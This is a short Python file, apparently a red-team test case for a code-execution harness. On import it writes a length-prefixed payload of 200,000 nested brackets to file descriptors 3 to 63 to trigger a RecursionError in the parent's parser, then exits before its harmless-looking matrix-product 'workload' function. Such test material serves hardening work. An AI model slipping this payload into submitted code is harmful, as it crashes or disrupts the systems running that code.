"""Red team 3, class 4: as attack_reply_not_an_object.py, with a header nested 200000 lists deep (RecursionError)."""

import os
import struct

import jax.numpy as jnp

NESTED = True
_HEAD = (b"[" * 200000 + b"]" * 200000) if NESTED else b'"x"'
for _fd in range(3, 64):
    try:
        os.write(_fd, struct.pack(">Q", len(_HEAD)) + _HEAD)
    except OSError:
        pass
os._exit(0)


def workload(A, B):
    return jnp.dot(A, B)
